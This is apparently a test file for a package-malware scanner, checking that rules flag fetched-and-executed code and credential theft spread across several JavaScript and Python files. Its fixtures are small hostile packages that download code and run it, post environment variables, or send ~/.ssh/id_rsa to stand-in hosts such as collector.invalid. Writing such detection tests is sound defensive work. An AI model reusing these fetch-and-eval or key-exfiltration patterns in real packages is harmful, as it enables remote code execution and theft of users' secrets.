// Values are followed from file to file: what one file fetches or reads and another runs or sends.
import { describe, expect, it } from 'vitest'
import { contentsOf, examine } from '../../../bench/detection/examine.ts'
import { loadRulePacks } from '../../../src/scanners/rules/load.ts'

const packs = loadRulePacks(new URL('../../../rules', import.meta.url).pathname)
type Files = Readonly<Record<string, string>>

async function rulesOf(ecosystem: 'npm' | 'pypi', files: Files): Promise<string[]> {
  const language = ecosystem === 'npm' ? 'js' : 'py'
  const contents = await contentsOf({ id: 'x', behaviour: 6, language, ecosystem, files })
  return (await examine(contents, packs)).map(({ rule, file }) => `${rule} ${file}`)
}

const FETCHES = `const https = require('https')
exports.pull = () => new Promise((ok) => https.get('https://stage.invalid/a', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => ok(b)) }))`
/** Ordinary code: files of any size are joined, not only small ones. */
const LONG = `\n${Array.from({ length: 120 }, (_, i) => `exports.step${i} = (value) => value + ${i} - 1`).join('\n')}\n`

describe('JavaScript', () => {
  it.each<[string, Files, string]>([
    [
      'require and a callback given by name',
      {
        'index.js': `require('./lib/net').pull().then(require('./lib/run').apply)`,
        'lib/net.js': FETCHES,
        'lib/run.js': 'exports.apply = (text) => new Function(text)()',
      },
      'js-fetched-code lib/run.js',
    ],
    [
      'long files',
      {
        'index.js': `const { pull } = require('./lib/net'); const { apply } = require('./lib/run'); pull().then((t) => apply(t))${LONG}`,
        'lib/net.js': FETCHES + LONG,
        'lib/run.js': `exports.apply = (text) => new Function(text)()${LONG}`,
      },
      'js-fetched-code lib/run.js',
    ],
    [
      'import, export and a default',
      {
        'package.json': '{"type":"module"}',
        'index.js': `import load from './load.js'\nexport * from './names.js'\nimport { run } from './again.js'\nrun(await load())`,
        'load.js': `export default async function () { const r = await fetch('https://stage.invalid/b'); return r.text() }`,
        'again.js': `export { evaluate as run } from './run.js'`,
        'run.js': 'export function evaluate(text) { return (0, eval)(text) }',
        'names.js': 'export const a = 1',
      },
      'js-fetched-code run.js',
    ],
    [
      'an address in a third file and a class',
      {
        'index.js': `const { Reporter } = require('./reporter'); new Reporter(JSON.stringify(process.env)).send()`,
        'reporter.js': `const { HOST } = require('./settings'); class Reporter { constructor(facts) { this.facts = facts } send() { fetch(HOST, { method: 'POST', body: this.facts }) } }\nmodule.exports = { Reporter }`,
        'settings.js': `module.exports = { HOST: 'https://collector.invalid/e' }`,
      },
      'js-environment-sent reporter.js',
    ],
    [
      'a list of paths and a sender',
      {
        'index.js': `const fs = require('fs'); const { files } = require('./paths'); const send = require('./send'); for (const f of files) send(fs.readFileSync(f))`,
        'paths.js': `exports.files = [require('os').homedir() + '/.ssh/id_rsa']`,
        'send.js': `const axios = require('axios'); module.exports = (body) => axios.post('https://collector.invalid/k', body)`,
      },
      'js-credentials-sent send.js',
    ],
  ])('%s', async (_name, files, expected) => {
    expect(await rulesOf('npm', files)).toContain(expected)
  })

  it('ends where modules load and pass on one another in a circle', async () => {
    const found = await rulesOf('npm', {
      'a.mjs': `export * from './b.mjs'\nimport { x } from './b.mjs'\neval(x)`,
      'b.mjs': `export * from './a.mjs'\nimport { x } from './a.mjs'\nfetch(x)`,
    })
    expect(found).not.toContain('js-fetched-code a.mjs')
  })

  it('does not take one export for another', async () => {
    const found = await rulesOf('npm', {
      'index.js': `const { title } = require('./data'); new Function('a', title)`,
      'data.js': `exports.title = 'return a + 1'; exports.pull = () => fetch('https://api.invalid/a').then((r) => r.text())`,
    })
    expect(found.filter((rule) => !rule.startsWith('capability'))).toEqual([])
  })
})

describe('Python', () => {
  it.each<[string, Files, string]>([
    [
      'from .x import y',
      {
        'pkg/__init__.py': 'from .net import pull\nfrom .run import go\ngo(pull("main"))\n',
        'pkg/net.py':
          'import urllib.request\ndef pull(n):\n    return urllib.request.urlopen("https://stage.invalid/" + n).read()\n',
        'pkg/run.py': 'def go(text):\n    exec(text, {})\n',
      },
      'py-fetched-code pkg/run.py',
    ],
    [
      'a module, a class and its methods',
      {
        'pkg/__init__.py': 'from . import wire\nfrom pkg.gather import *\nwire.Sender(snapshot()).push()\n',
        'pkg/gather.py':
          'import os\ndef snapshot():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
        'pkg/wire.py':
          'import requests\nclass Sender:\n    def __init__(self, body):\n        self.body = body\n    def push(self):\n        self._post(self.body)\n    def _post(self, data):\n        requests.post("https://collector.invalid/k", data=data)\n',
      },
      'py-credentials-sent pkg/wire.py',
    ],
  ])('%s', async (_name, files, expected) => {
    expect(
      await rulesOf('pypi', { 'setup.py': 'from setuptools import setup\nsetup(name="sample")\n', ...files }),
    ).toContain(expected)
  })
})

describe('a __main__ module that asks an address', () => {
  const PARTS = {
    'pkg/__main__.py': `import urllib.request\nfrom .ask import ask\nurllib.request.urlopen('https://stage.invalid/ping').read()\n`,
    'pkg/ask.py': 'import urllib.request\ndef ask(url):\n    return urllib.request.urlopen(url).read()\n',
  }
  const FOUND = 'py-network-at-load pkg/__main__.py'

  it.each([
    ['names it as text', `__import__('pkg.__main__')`],
    ['runs the package', `import runpy\nrunpy.run_module('pkg')`],
    [
      'starts the package as a program',
      `import subprocess, sys\nsubprocess.Popen([sys.executable, '-m', 'pkg'])`,
    ],
    ['imports it', 'from . import __main__'],
  ])('is run by whoever loads the package that %s', async (_, lines) => {
    const linked = { ...PARTS, 'pkg/__init__.py': `from .ask import ask\n${lines}\n` }
    expect(await rulesOf('pypi', linked)).toContain(FOUND)
    const apart = { ...PARTS, 'pkg/__init__.py': `${lines}\n` }
    expect(await rulesOf('pypi', apart)).toContain(FOUND)
  })

  it('is a program of its user where nothing in the package starts it', async () => {
    const files = { ...PARTS, 'pkg/__init__.py': `from .ask import ask\n__version__ = '1.0'\n` }
    expect(await rulesOf('pypi', files)).not.toContain(FOUND)
  })
})
